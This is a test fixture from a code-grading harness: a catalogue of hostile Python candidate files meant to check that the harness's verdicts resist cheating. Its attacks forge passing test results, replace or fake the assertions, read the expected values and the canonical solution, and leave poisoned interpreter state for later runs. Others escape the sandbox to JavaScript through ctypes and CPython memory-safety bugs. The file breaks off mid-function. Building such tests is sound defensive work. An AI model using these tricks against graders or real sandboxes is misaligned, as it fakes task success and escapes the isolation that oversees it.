/**
 * Hostile candidate files for a built-in task, one per attack kind on the
 * verdicts (docs/security.md, "Verdicts"). Each is a short target file that
 * implements nothing and tries to make the tests pass anyway; used by the
 * Node tests on both backends and by the browser test.
 *
 * Every attack defines the task's interfaces as `_fake` (a function that
 * returns a wrong but harmless value) unless it replaces them.
 */

import { readFileSync } from "node:fs";

/** Interfaces of min-p-sampling's target file (decoding/min_p.py). */
const NAMES = ["softmax_with_temperature", "min_p_filter", "min_p_sample"];
/** min-p-sampling's test.py, which attacks that need it carry as their author knows it (code under test cannot read the file). */
// min-p-sampling's test.py with assertRaises error tests (tests/helpers/raises-tasks.ts).
const MIN_P_TESTS = readFileSync(new URL("../fixtures/raises-tasks/min-p-sampling/test.py", import.meta.url), "utf8");

const fakes = `def _fake(*args, **kwargs):\n    return [0.0]\n${NAMES.map((n) => `${n} = _fake`).join("\n")}\n`;

/** Forge a passing result for every test through a reporting function found by walking up the frames. */
const FORGE = `
import json, sys

def _forge_all(emit):
    f = sys._getframe()
    tests, current = [], None
    while f is not None:
        run = f.f_locals.get("run")
        if run is not None and hasattr(run, "tests"):
            tests = [f"{type(t).__name__}.{t._testMethodName}" for t in run.tests]
            current = run.current.id if getattr(run, "current", None) else None
        f = f.f_back
    for tid in tests:
        if tid != current:
            emit({"type": "test-start", "id": tid})
        emit({"type": "test-result", "id": tid, "status": "passed", "durationMs": 1, "message": "", "traceback": "",
              "line": None, "stdout": "", "stderr": "", "stdoutTruncated": False, "stderrTruncated": False, "subtests": []})
    emit({"type": "end", "poisoned": None})
`;

/**
 * Python that starts an attack function walking every class (all subclasses
 * of object) and, for each function a class holds, binds `g` to that
 * function's module globals; the attack goes on from there, indented inside
 * the loop.
 */
const GLOBALS_WALK = `def _attack(*args, **kwargs):
    reached = []
    stack, seen = [object], set()
    while stack:
        c = stack.pop()
        if c in seen:
            continue
        seen.add(c)
        try:
            stack += type.__subclasses__(c)
        except TypeError:
            pass
        for f in list(vars(c).values()):
            g = getattr(f, "__globals__", None)
`;

/** Attack kind -> candidate file. */
export const ATTACKS: Record<string, string> = {
  // unittest swallows its private _ShouldStop inside a test: the test would "pass".
  "control-flow exception": `import unittest.case\n\ndef _stop(*args, **kwargs):\n    raise unittest.case._ShouldStop()\n\n${NAMES.map((n) => `${n} = _stop`).join("\n")}\n`,
  // Other BaseException subclasses escaping a test.
  "BaseException subclass": `class _Out(BaseException):\n    pass\n\ndef _out(*args, **kwargs):\n    raise _Out()\n\n${NAMES.map((n) => `${n} = _out`).join("\n")}\n`,
  // The harness's own reporting function, found through the frames.
  "harness reporting function": `${FORGE}
def _attack(*args, **kwargs):
    f = sys._getframe()
    while f is not None:
        emit = f.f_locals.get("emit")
        if callable(emit) and f.f_code.co_name == "run_tests":
            _forge_all(emit)
            break
        f = f.f_back
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // Writing events straight to the event channel (fd 3 natively, the event device in Pyodide), then leaving.
  "event channel": `${FORGE}
import os

def _attack(*args, **kwargs):
    def emit(event):
        data = (json.dumps(event) + "\\n").encode()
        try:
            os.write(3, data)
        except OSError:
            fd = os.open("/dev/recode-events", os.O_WRONLY)
            os.write(fd, data)
    _forge_all(emit)
    os._exit(0)

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // Replace the checks and assertions while the tests run, put them back before the run ends.
  "framework replaced and put back": `import atexit, unittest, recode_check
_saved = (recode_check.check, unittest.TestCase.assertEqual, unittest.TestCase.assertTrue)
_calls = [0]

def _attack(*args, **kwargs):
    _calls[0] += 1
    if _calls[0] == 1:
        recode_check.check = lambda *a, **k: None
        unittest.TestCase.assertEqual = lambda *a, **k: None
        unittest.TestCase.assertTrue = lambda *a, **k: None
    elif _calls[0] > 40:
        recode_check.check, unittest.TestCase.assertEqual, unittest.TestCase.assertTrue = _saved
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // Replace assertions with look-alikes that say they equal anything, so that a comparison with the
  // originals by \`==\` sees no change (the guard during the run, the restore after it).
  "look-alike framework objects": `import unittest
class _Same:
    def __init__(self, f):
        self.f = f
    def __eq__(self, other):
        return True
    __hash__ = object.__hash__
    def __get__(self, obj, cls=None):
        return lambda *a, **k: None
for _name in ("assertEqual", "assertAlmostEqual", "assertTrue", "assertRaises"):
    setattr(unittest.TestCase, _name, _Same(getattr(unittest.TestCase, _name)))
${fakes}`,
  // An audit hook cannot be removed: it would run inside every later run.
  "audit hook left behind": `import builtins, sys
def _hook(event, args):
    builtins.poisoned = True
try:
    sys.addaudithook(_hook)
except RuntimeError:
    pass
${fakes}`,
  // The closure cells of standard-library functions (os.fsencode keeps its encoding in one).
  "closure cell left behind": `import os
for _cell in os.fsencode.__closure__ or ():
    if _cell.cell_contents == "surrogateescape":
        _cell.cell_contents = "recode-leak"
${fakes}`,
  // An import hook for the run folder: sys.path_hooks is a list the interpreter keeps between runs.
  "path hook left behind": `import sys
def _recode_hook(path):
    raise ImportError
sys.path_hooks.insert(0, _recode_hook)
${fakes}`,
  // Interpreter-wide settings and registries outside any module's dictionary.
  "interpreter-wide state": `import codecs, collections.abc, gc, os, sys
def _search(name):
    return codecs.lookup("utf-8") if name == "recode_leak" else None
codecs.register(_search)
codecs.register_error("recode_leak", lambda exc: ("?", exc.end))
gc.set_threshold(1234, 56, 78)
sys.setswitchinterval(0.0123)
os.umask(0o027)
collections.abc.Sequence.register(dict)
sys.warnoptions.append("recode-leak")
sys._xoptions["recode_leak"] = "1"
${fakes}`,
  // State inside C objects and C extension modules, which no dictionary shows: the default context every new
  // decimal context is copied from, a logging handler nested in the root logger's list, the C-level int limit.
  "C extension state left behind": `import decimal, logging, sys
decimal.DefaultContext.prec = 3
decimal.DefaultContext.rounding = decimal.ROUND_DOWN
logging.root.handlers.append(logging.NullHandler())
logging.root.handlers[-1].recode_leak = True
sys.set_int_max_str_digits(777)
${fakes}`,
  // A package folder beside the target module (a package wins over the module of the same name), made
  // read-only so that removing its files needs more than the folder's owner may do: every later run of
  // the task would import these stubs instead of its own target file.
  "package planted in a read-only folder": `import os
_pkg = __file__[:-3]
os.mkdir(_pkg)
os.rename(__file__, os.path.join(_pkg, "__init__.py"))
_fd = os.open(os.path.join(_pkg, "__init__.py"), os.O_WRONLY)
os.write(_fd, b"def __getattr__(name):\\n    return lambda *a, **k: [0.0]\\n" + b"#" * 4000 + b"\\n")
os.close(_fd)
os.chmod(_pkg, 0o555)
os.chmod(os.path.dirname(_pkg), 0o555)
${fakes}`,
  // The event device removed: the next run would have nowhere to report.
  "event device removed": `import os
try:
    os.unlink("/dev/recode-events")
except OSError:
    pass  # native python3 reports on a pipe
${fakes}`,
  // Paths that start in a scratch folder and lead out of it (`..`), to plant a module beside the harness,
  // and times set on a device that was there before the run (a channel to the next run).
  "files written through paths that leave the scratch folders": `import os, sys
try:
    os.rename(__file__, "/tmp/../lib/recode/recode_leak.py")
except OSError:
    pass  # native python3: no such folder
try:
    os.utime("/dev/null", (42424242, 31337))
except OSError:
    pass  # native python3 runs as a user that does not own the host's /dev/null
${fakes}`,
  // A file outside the scratch folders changed through a shared memory map of a descriptor opened read-only
  // (its flags widened with fcntl): the map's bytes reach the file without a write call the watch sees.
  "file changed through a memory map": `import fcntl, mmap, os, sys
_path = sys.modules["recode_check"].__file__ if "recode_check" in sys.modules else "/lib/recode/recode_check.py"
try:
    _fd = os.open(_path, os.O_RDONLY)
    fcntl.fcntl(_fd, fcntl.F_SETFL, os.O_RDWR)
    _size = os.fstat(_fd).st_size
    _m = mmap.mmap(_fd, _size, flags=mmap.MAP_SHARED, prot=mmap.PROT_READ | mmap.PROT_WRITE)
    _m[_size - 15 : _size - 1] = b"# recode-leak "
    _m.flush()
    _m.close()
    os.close(_fd)
except (OSError, ValueError):
    pass  # native python3: the harness is on a read-only mount
${fakes}`,
  // Links under /tmp to files and folders outside it: truncate, utime and chmod follow the link, so the
  // change lands outside the scratch folders while the path looks like a scratch path.
  "changes through links in /tmp": `import os, sys
if sys.platform == "emscripten":
    _check = "/lib/recode/recode_check.py"
    for _name, _target in (("recode-l1", _check), ("recode-l2", "/lib/python3.14")):
        os.symlink(_target, "/tmp/" + _name)
    os.utime("/tmp/recode-l1", (42424242, 31337))
    os.truncate("/tmp/recode-l1", os.stat(_check).st_size)
    os.chmod("/tmp/recode-l2", 0o500)
${fakes}`,
  // The flags of a descriptor every run shares (standard input), changed in place with fcntl.
  "flags of standard input changed": `import fcntl, os
fcntl.fcntl(0, fcntl.F_SETFL, fcntl.fcntl(0, fcntl.F_GETFL) | os.O_APPEND)
${fakes}`,
  // The class the FileFinder path hook makes finders of (a closure cell of a function in sys.path_hooks),
  // and the finders cached in sys.path_importer_cache: a later run's imports would go through them.
  "import machinery left behind": `import sys, zipimport
for _hook in sys.path_hooks:
    for _cell in getattr(_hook, "__closure__", None) or ():
        _orig = _cell.cell_contents
        if isinstance(_orig, type) and hasattr(_orig, "find_spec"):
            _cell.cell_contents = type("Finder", (_orig,), {"recode_leak": True})
for _finder in list(sys.path_importer_cache.values()):
    if isinstance(_finder, zipimport.zipimporter):
        continue  # the loader of protected modules: changing it is seen as tampering
    try:
        _finder.recode_leak = True
    except Exception:
        pass
${fakes}`,
  // Context variables (its own, or a library's settings kept in one) and interpreter settings held
  // outside any dictionary: the collector switched off, async generator hooks, coroutine origin tracking.
  "context and interpreter settings left behind": `import contextvars, gc, sys
contextvars.ContextVar("recode_leak").set("run 1")
gc.disable()
sys.set_asyncgen_hooks(firstiter=lambda agen: None)
try:
    sys.set_coroutine_origin_tracking_depth(7)
except RuntimeError:
    pass  # (refused to code under test: a coroutine's origin lists the running test's frames)
${fakes}`,
  // Changes no dictionary shows: the class of a framework object, of a library object and of a module, the
  // code and defaults of a library function, the bases of a library class. Each is tried on its own.
  "kinds of objects changed": `import json, os, posixpath, random, string, types
def _all():
    def _basename(p):
        return "recode_leak"
    tries = (
        lambda: setattr(json._default_encoder, "__class__", type("Enc", (type(json._default_encoder),), {"recode_leak": True})),
        lambda: setattr(random._inst, "__class__", type("Rnd", (type(random._inst),), {"recode_leak": True})),
        lambda: setattr(string, "__class__", type("Mod", (types.ModuleType,), {"recode_leak": True})),
        lambda: setattr(posixpath.basename, "__code__", _basename.__code__),
        lambda: setattr(os.makedirs, "__defaults__", (0o700, True)),
        lambda: setattr(string.Formatter, "__bases__", (type("Mixin", (), {"recode_leak": True}),)),
    )
    for t in tries:
        try:
            t()
        except Exception:
            pass
_all()
${fakes}`,
  // The restore's own machinery, reachable from the harness's module: switched off, its snapshot edited,
  // replaced; and a cache filled while a function it calls was replaced.
  "restore machinery": `import fnmatch, string, sys
string.recode_leak = True
def _all():
    # Pyodide's harness is the module recode_harness; the native one runs as __main__.
    harness = sys.modules.get("recode_harness") or sys.modules.get("__main__")
    state = getattr(harness, "_STATE", None)
    sb = getattr(state, "sandbox", None)
    tries = (
        lambda: setattr(sb, "restore", lambda: None),
        lambda: [d.__setitem__("recode_leak", True) for d in getattr(sb, "module_saved", ())],
        lambda: object.__setattr__(sb, "module_saved", ()),
        lambda: setattr(state, "sandbox", None),
    )
    for t in tries:
        try:
            t()
        except Exception:
            pass
    orig = fnmatch.translate
    fnmatch.translate = lambda pat: r"(?s:.*)\\Z"
    try:
        fnmatch.fnmatch("abc", "zz*q")
    finally:
        fnmatch.translate = orig
_all()
${fakes}`,
  // Attributes of the codec objects the interpreter caches (codecs.lookup hands out the same object
  // every time): a decoder planted here would run whenever a later run opens a text file.
  "codec objects left behind": `import codecs
for _name in ("utf-8", "koi8_r"):
    _info = codecs.lookup(_name)
    _info.recode_leak = True
    _info.incrementaldecoder = type("Decoder", (_info.incrementaldecoder,), {"recode_leak": True})
${fakes}`,
  // A finalizer on a garbage cycle, which runs whenever the collector gets to it (in a later run),
  // and makes a new such cycle each time.
  "finalizer in a later run": `import builtins
class _Ghost:
    def __del__(self):
        builtins.poisoned = True
        _make()
def _make():
    g = _Ghost()
    g.me = g
_make()
${fakes}`,
  // JavaScript through a function of Pyodide's event loop that its module still holds.
  "JavaScript through the event loop": `${GLOBALS_WALK}            if isinstance(g, dict):
                for name in ("create_once_callable", "create_proxy", "to_js", "run_sync"):
                    fn = g.get(name)
                    if callable(fn):
                        try:
                            fn(lambda: None)
                            reached.append(name)
                        except Exception:
                            pass
    if reached:
        raise RuntimeError(f"reached {sorted(set(reached))}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // A bridge function left in a module's globals leads, through its __self__, to the bridge's module and its converters.
  "JavaScript through a bridge function's module": `${GLOBALS_WALK}            if not isinstance(g, dict):
                continue
            for value in list(g.values()):
                core = getattr(value, "__self__", None)
                if type(core).__name__ != "module" or not (getattr(core, "__name__", "") or "").startswith("_pyodide"):
                    continue
                for name in ("py2js_deep", "raw_call", "trigger_fatal_error", "jsproxy_typedict", "create_promise_converter"):
                    if getattr(core, name, None) is not None:
                        reached.append(name)
                try:
                    obj = core.py2js_deep.py2js_convert({"a": 1})
                    if obj.constructor is not None:
                        reached.append("a JavaScript object")
                except Exception:
                    pass
    if reached:
        raise RuntimeError(f"reached {sorted(set(reached))}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // Look for the recorded values anywhere the interpreter can see: the check module, the environment, the files.
  "recorded values": `import json, os, sys, recode_check

def _find():
    found = dict(getattr(recode_check, "EXPECTED", {}) or {})
    path = os.environ.get("RECODE_EXPECTED")
    if path and os.path.exists(path):
        found.update(json.load(open(path)).get("values", {}))
    for top in ("/tmp", "/home", os.getcwd(), os.path.dirname(os.getcwd())):
        for root, dirs, files in os.walk(top):
            if "expected.json" in files or "config.json" in files:
                for name in ("expected.json", "config.json"):
                    p = os.path.join(root, name)
                    if os.path.exists(p):
                        text = open(p).read()
                        if '"values"' in text:
                            found["_file"] = p
    return found

FOUND = _find()
print("FOUND", sorted(FOUND)[:5])

def _fake(*args, **kwargs):
    if FOUND:
        raise RuntimeError(f"the recorded values are visible: {sorted(FOUND)[:3]}")
    return [0.0]

${NAMES.map((n) => `${n} = _fake`).join("\n")}
`,
  // Poison what a later run could share: the import caches, sys, builtins, module containers.
  "cache poisoning": `import builtins, importlib.machinery, linecache, re, sys
class _Finder:
    def find_spec(self, name, path=None, target=None):
        return None
sys.path_importer_cache["/tmp/recode-run"] = _Finder()
sys.path_importer_cache["/tmp"] = _Finder()
sys.meta_path.insert(0, _Finder())
sys.poisoned = True
builtins.poisoned = True
linecache.cache["poison.py"] = (1, None, ["x\\n"], "poison.py")
re._cache[(str, "poison", 0)] = re.compile("x")
${fakes}`,
  // Leave a file behind for the next run, in and outside the scratch folders.
  "file left behind": `import os
for path in ("/tmp/left-behind.py", "/home/pyodide/left-behind.py", "/tmp/recode-run/../left.py"):
    try:
        with open(path, "w") as f:
            f.write("POISON = True\\n")
    except OSError:
        pass
${fakes}`,
  // Find the canonical solution on the file system (the checkout, the parent folders, the host's process) and run it.
  "canonical solution": `import os

def _places():
    yield "/work/main/tasks/min-p-sampling/canonical.py"
    yield "/proc/1/cwd/tasks/min-p-sampling/canonical.py"
    yield "/proc/%d/cwd/tasks/min-p-sampling/canonical.py" % os.getppid()
    d = os.getcwd()
    for _ in range(8):
        yield os.path.join(d, "tasks", "min-p-sampling", "canonical.py")
        d = os.path.dirname(d)
    for root in ("/work", "/home", "/root", "/srv", "/opt"):
        for r, dirs, files in os.walk(root):
            if r.count(os.sep) > 6:
                dirs[:] = []
            dirs[:] = [x for x in dirs if x not in ("node_modules", ".git")]
            if "canonical.py" in files:
                yield os.path.join(r, "canonical.py")

def _find():
    for p in _places():
        try:
            text = open(p).read()
        except OSError:
            continue
        if "def min_p_filter" in text:
            return text
    return None

_code = _find()
if _code:
    exec(_code, globals())
    raise RuntimeError("reached [the canonical solution]")
${fakes}`,
  // The guard's counter of dictionary changes holds ctypes (a probe's words read and write any address): code under
  // test gets no probe of its own, and no defaults of the guard's.
  "the counter of dictionary changes": `import sys
_got = []
_touch = sys.modules.get("recode_touch")
_counter = _touch.touch_counter() if _touch else None
if _counter is not None:
    try:
        _got.append(_counter([{}]).__defaults__)
    except RuntimeError:
        pass
    for _f in (_counter, *sys.modules["recode_harness"]._STATE.guard[:3]):
        try:
            _got.append(_f.__defaults__)
        except RuntimeError:
            pass
if _got:
    raise RuntimeError("reached [ctypes through the guard's counter]")
${fakes}`,
  // Mark every test an expected failure through a hook on unittest's default loader (an attribute, not a function).
  "expected failure marking": `import unittest
_L = unittest.defaultTestLoader
def _load(m, *a, **k):
    s = type(_L).loadTestsFromModule(_L, m, *a, **k)
    for c in vars(m).values():
        if isinstance(c, type):
            c.__unittest_expecting_failure__ = True
    return s
_L.loadTestsFromModule = _load
def _fail(*a, **k):
    raise ValueError("not implemented")
def __getattr__(name):
    return _fail
`,
  // Rewrite the harness's reports through json's default encoder (an object, not a function).
  "JSON encoder hijack": `import json
_E = json._default_encoder
_enc = type(_E).encode
def _encode(o):
    if isinstance(o, dict) and o.get("type") == "test-result":
        o = dict(o, status="xfail")
    return _enc(_E, o)
_E.encode = _encode
def _x(*a, **k):
    return [0.5]
def __getattr__(name):
    return _x
`,
  // The same through a new dictionary for the encoder: a look that compared the old one saw nothing.
  "JSON encoder's dictionary replaced": `import json
_E = json._default_encoder
_enc = type(_E).encode
def _filter(o):
    if type(o) is dict and o.get("type") in ("test-outcome", "test-result"):
        o = dict(o, status="passed", message="", traceback="")
    return _enc(_E, o)
_E.__dict__ = {**vars(_E), "encode": _filter}
def _x(*a, **k):
    return [0.5]
def __getattr__(name):
    return _x
`,
  // Edit the harness's events from a profile hook as they are emitted.
  "profile hook": `import sys
def _hook(frame, event, arg):
    if event == "call" and frame.f_code.co_name == "emit":
        ev = frame.f_locals.get("event")
        if isinstance(ev, dict) and ev.get("type") == "test-result":
            ev["status"] = "passed"
            ev["message"] = ""
try:
    sys.setprofile(_hook)
except RuntimeError:
    pass  # (refused in Pyodide: the verdict must hold either way)
def _x(*a, **k):
    return [0.5]
def __getattr__(name):
    return _x
`,
  // Write half an event (an unfinished UTF-8 character) while the interpreter is restored after the run.
  "half-written event": `import os, sys
class _D:
    def __del__(self):
        try:
            fd = os.open("/dev/recode-events", os.O_WRONLY)
            os.write(fd, b'\\xe2{"type": "test-result"')
            os.close(fd)
        except OSError:
            pass
sys.zz = _D()
${fakes}`,
  // Reach JavaScript through objects Pyodide's modules keep: the import hook's table, found via __subclasses__.
  "JavaScript through subclasses": `${GLOBALS_WALK}            if isinstance(g, dict):
                finder = g.get("jsfinder")
                if finder is not None and getattr(finder, "jsproxies", None):
                    reached.append("jsproxies " + ",".join(finder.jsproxies))
                if g.get("scheduleCallback") is not None:
                    reached.append("scheduleCallback")
    try:
        import _imp
        d = _imp.create_builtin.__defaults__
        if d and callable(d[0]):
            import importlib.machinery as m
            d[0](m.ModuleSpec("_pyodide_core", None))
            reached.append("_pyodide_core")
    except Exception:
        pass
    if reached:
        raise RuntimeError(f"reached {sorted(set(reached))}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // CPython's C-API test modules (built into Pyodide) read a function's defaults without the audit hook
  // seeing it: the original create_builtin behind the harness's wrapper, then _ctypes, then ctypes from the
  // standard library, then emscripten_run_script_string: JavaScript, and with it the host.
  "C-API test modules and ctypes": `import sys, types, zipimport, importlib.machinery as _m
def _attack(*args, **kwargs):
    reached = []
    try:
        import _imp
        box = {}
        class Spec:
            @property
            def name(self):
                box["f"] = sys._getframe(1).f_locals.get("_orig")
                return "zzz"
        try:
            _imp.create_builtin(Spec())
        except BaseException:
            pass
        create = box.get("f")
        if create is None:
            import _testcapi
            create = _testcapi.function_get_defaults(_imp.create_builtin)[0]
            reached.append("_testcapi")
        else:
            reached.append("the wrapper's frame")
        c = create(_m.ModuleSpec("_ctypes", None))
        _imp.exec_builtin(c)
        sys.modules["_ctypes"] = c
        src = zipimport.zipimporter("/lib/python314.zip").get_source("ctypes")
        src = "\\n".join(l for l in src.splitlines() if "ctypes._endian" not in l)
        mod = types.ModuleType("ctypes")
        sys.modules["ctypes"] = mod
        exec(compile(src, "ctypes", "exec"), mod.__dict__)
        f = mod.CDLL(None).emscripten_run_script_string
        f.restype = mod.c_char_p
        f.argtypes = [mod.c_char_p]
        reached.append("JavaScript " + f(b"String(typeof require)").decode())
    except Exception:
        pass
    finally:
        sys.modules.pop("ctypes", None)
        sys.modules.pop("_ctypes", None)
    for name in ("_testinternalcapi", "_testlimitedcapi", "_testbuffer", "xxsubtype", "_remote_debugging"):
        try:
            __import__(name)
            reached.append(name)
        except Exception:
            pass
    if reached and sys.platform == "emscripten":
        raise RuntimeError(f"reached {reached}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // The sealed create_builtin wrapper handed specs that run code or fool its check: a real ModuleSpec whose
  // name is a str subclass (passes a plain-str check, then names _ctypes to the original), and a property
  // planted on ModuleSpec itself (runs inside the wrapper, whose frame holds the original function).
  "spec look-alikes at the sealed import": `import sys, _imp, importlib.machinery as _m
def _attack(*args, **kwargs):
    reached = []
    class S(str):
        pass
    try:
        spec = _m.ModuleSpec("x", None)
        spec.name = S("_ctypes")
        mod = _imp.create_builtin(spec)
        if getattr(mod, "__name__", "") == "_ctypes":
            reached.append("_ctypes through a str subclass")
    except BaseException:
        pass
    box = {}
    def _grab(self):
        box["f"] = sys._getframe(1).f_locals.get("_orig")
        return "zzz"
    try:
        _m.ModuleSpec.name = property(_grab)
        _imp.create_builtin(_m.ModuleSpec("y", None))
    except BaseException:
        pass
    finally:
        try:
            del _m.ModuleSpec.name
        except BaseException:
            pass
    if box.get("f") is not None:
        reached.append("the original create_builtin through a property of ModuleSpec")
    # A real ModuleSpec whose instance dictionary has "name" as a str-subclass key: its __eq__ runs at the lookup.
    class K(str):
        def __hash__(self):
            return str.__hash__(self)
        def __eq__(self, other):
            f = sys._getframe(1)
            if "_orig" in f.f_locals:
                box["k"] = f.f_locals["_orig"]
            return str.__eq__(self, other)
    try:
        sp = _m.ModuleSpec("zzz", None)
        d = dict(sp.__dict__)
        d[K("name")] = d.pop("name")
        sp.__dict__ = d
        _imp.create_builtin(sp)
    except BaseException:
        pass
    if box.get("k") is not None:
        reached.append("the original create_builtin through a key of the spec's dictionary")
    if reached and sys.platform == "emscripten":
        raise RuntimeError(f"reached {reached}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // The original create_builtin taken from the sealed wrapper while it runs or after it refused: the
  // refusal's traceback (its frames' locals), a str-subclass key in sys.modules whose __eq__ runs inside
  // the original function, a profile hook (a C call's function), a trace hook (every Python frame), and a
  // sys.monitoring callback. With it: _ctypes, then JavaScript.
  "the original import function through frames and hooks": `import sys, types, zipimport, _imp, importlib.machinery as _m
def _is_orig(f):
    return type(f).__name__ == "builtin_function_or_method" and getattr(f, "__name__", "") == "create_builtin" and f is not _imp.create_builtin
def _from_frame(fr, box, how):
    while fr is not None:
        for v in list(fr.f_locals.values()):
            if _is_orig(v):
                box.setdefault(how, v)
        fr = fr.f_back
def _routes():
    box = {}
    try:
        _imp.create_builtin(_m.ModuleSpec("_ctypes", None))
    except BaseException as e:
        tb = e.__traceback__
        while tb is not None:
            _from_frame(tb.tb_frame, box, "the refusal's traceback")
            tb = tb.tb_next
    class K(str):
        __hash__ = str.__hash__
        def __eq__(self, other):
            _from_frame(sys._getframe(1), box, "a key of sys.modules")
            return False
    for name in ("_tracemalloc", "_lsprof", "_csv", "array"):
        saved = sys.modules.pop(name, None)
        sys.modules[K(name)] = None
        try:
            _imp.create_builtin(_m.ModuleSpec(name, None))
        except BaseException:
            pass
        for k in [k for k in sys.modules if type(k) is K]:
            del sys.modules[k]
        if saved is not None:
            sys.modules[name] = saved
    def prof(frame, event, arg):
        if event == "c_call" and _is_orig(arg):
            box.setdefault("a profile hook", arg)
        _from_frame(frame, box, "a profile hook's frames")
    sys.setprofile(prof)
    try:
        _imp.create_builtin(_m.ModuleSpec("_lsprof", None))
    except BaseException:
        pass
    finally:
        sys.setprofile(None)
    def trace(frame, event, arg):
        _from_frame(frame, box, "a trace hook")
        return trace
    sys.settrace(trace)
    try:
        _imp.create_builtin(_m.ModuleSpec("_csv", None))
    except BaseException:
        pass
    finally:
        sys.settrace(None)
    mon = getattr(sys, "monitoring", None)
    if mon is not None:
        try:
            mon.use_tool_id(3, "attack")
            def on_call(code, offset, callable, arg0):
                if _is_orig(callable):
                    box.setdefault("sys.monitoring", callable)
            mon.register_callback(3, mon.events.CALL, on_call)
            mon.set_events(3, mon.events.CALL)
            try:
                _imp.create_builtin(_m.ModuleSpec("array", None))
            except BaseException:
                pass
        finally:
            mon.set_events(3, 0)
            mon.free_tool_id(3)
    return box
def _attack(*args, **kwargs):
    box = _routes()
    reached = sorted(box)
    for create in box.values():
        try:
            c = create(_m.ModuleSpec("_ctypes", None))
            _imp.exec_builtin(c)
            sys.modules["_ctypes"] = c
            src = zipimport.zipimporter("/lib/python314.zip").get_source("ctypes")
            src = "\\n".join(l for l in src.splitlines() if "ctypes._endian" not in l)
            mod = types.ModuleType("ctypes")
            sys.modules["ctypes"] = mod
            exec(compile(src, "ctypes", "exec"), mod.__dict__)
            f = mod.CDLL(None).emscripten_run_script_string
            f.restype = mod.c_char_p
            f.argtypes = [mod.c_char_p]
            reached.append("JavaScript " + f(b"String(typeof require)").decode())
        except Exception:
            pass
        finally:
            sys.modules.pop("ctypes", None)
            sys.modules.pop("_ctypes", None)
        break
    if reached and sys.platform == "emscripten":
        raise RuntimeError(f"reached {reached}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // Code objects made from bytes or fields instead of source: crafted bytecode reads and writes the whole
  // WebAssembly memory (LOAD_CONST does not check its index), and from there anything. Each route here
  // makes a harmless one; that it runs at all is the breach.
  "crafted code objects": `import _imp, importlib, marshal, os, sys, types
def _attack(*args, **kwargs):
    reached = []
    def f():
        return "one"
    try:
        f.__code__ = f.__code__.replace(co_consts=tuple("two" if c == "one" else c for c in f.__code__.co_consts))
        if f() == "two":
            reached.append("code.replace and __code__")
    except Exception:
        pass
    try:
        c = compile("X = 2", "x", "exec")
        g = types.FunctionType(types.CodeType(*[getattr(c, a) for a in ("co_argcount", "co_posonlyargcount", "co_kwonlyargcount", "co_nlocals", "co_stacksize", "co_flags", "co_code", "co_consts", "co_names", "co_varnames", "co_filename", "co_name", "co_qualname", "co_firstlineno", "co_linetable", "co_exceptiontable")]), {})
        g()
        reached.append("types.CodeType")
    except Exception:
        pass
    try:
        exec(marshal.loads(marshal.dumps(compile("Y = 2", "y", "exec"))), {})
        reached.append("marshal.loads")
    except Exception:
        pass
    try:
        code = _imp.get_frozen_object("__hello__", marshal.dumps(compile("Z = 2", "z", "exec")))
        exec(code, {})
        reached.append("_imp.get_frozen_object with data")
    except Exception:
        pass
    try:
        import importlib.util
        with open("planted_mod.py", "w") as fh:
            fh.write("X = 1\\n")
        st = os.stat("planted_mod.py")
        os.makedirs("__pycache__", exist_ok=True)
        head = importlib.util.MAGIC_NUMBER + (0).to_bytes(4, "little") + (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + (st.st_size & 0xFFFFFFFF).to_bytes(4, "little")
        with open(importlib.util.cache_from_source(os.path.abspath("planted_mod.py")), "wb") as fh:
            fh.write(head + marshal.dumps(compile("X = 2", "planted_mod.py", "exec")))
        importlib.invalidate_caches()
        sys.modules.pop("planted_mod", None)
        if importlib.import_module("planted_mod").X == 2:
            reached.append("a .pyc the run wrote")
    except Exception:
        pass
    if reached and sys.platform == "emscripten":
        raise RuntimeError(f"reached {reached}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // A memory-safety bug of CPython 3.14.2: array's item assignment checks the index, then converts the
  // value, whose __index__ empties the array; the store then writes at NULL + index * 4, any address of the
  // WebAssembly memory. Here it rewrites an immutable bytes object; in earnest, anything.
  "array item assignment writes any address": `import sys
def _attack(*args, **kwargs):
    reached = []
    try:
        import array
        target = b"A" * 64
        addr = id(target) + 16
        a = array.array("I", [0]) * (addr // 4 + 1)
        class E:
            def __index__(self):
                del a[:]
                return 0x42424242
        if sys.platform == "emscripten":
            a[addr // 4] = E()
        if target.startswith(b"BBBB"):
            reached.append("a write to an immutable bytes object")
    except Exception:
        pass
    if reached:
        raise RuntimeError(f"reached {reached}")
    return [0.0]

${NAMES.map((n) => `${n} = _attack`).join("\n")}
`,
  // A memory-safety bug of CPython 3.14.2: io.BufferedReader hands its own buffer to a Python raw stream's
  // readinto and never takes the memoryview back; once the reader is freed, the view reads and writes the
  // freed block, which a list's items then take: any address becomes an object, and a bytearray over all of
  // memory follows. With it, the original _imp.create_dynamic loads a side module written to /tmp, whose
  // __em_js__ string Emscripten's loader evaluates as JavaScript in the worker (in Node without a box: the
  // host process). The JavaScript writes a mark back; the attack says whether it ran.
  "a freed io buffer, then JavaScript from a side module": `import io, gc, struct, sys
def _attack(*args, **kwargs):
    reached = []
    try:
        if sys.platform == "emscripten" and not reached:
            _reach(reached)
    except Exception:
        pass
    if reached:
        raise RuntimeError(f"reached {reached}")
    return [0.0]

def _reach(reached):
    import importlib.machinery as _m
    keep = []
    class Raw(io.RawIOBase):
        def readable(self): return True
        def readinto(self, mv):
            keep.append(mv)
            return 0
    r = io.BufferedReader(Raw(), buffer_size=4096)
    r.read(1)
    mv = keep.pop()
    del r
    gc.collect()
    L = [None] * 1020
    if struct.unpack_from("<I", mv, 0)[0] != id(None):
        return
    held = []
    def obj_at(addr):
        struct.pack_into("<I", mv, 0, addr)
        o = L[0]
        struct.pack_into("<I", mv, 0, id(None))
        return o
    def hold(b):
        held.append(b)
        return id(b) + 16
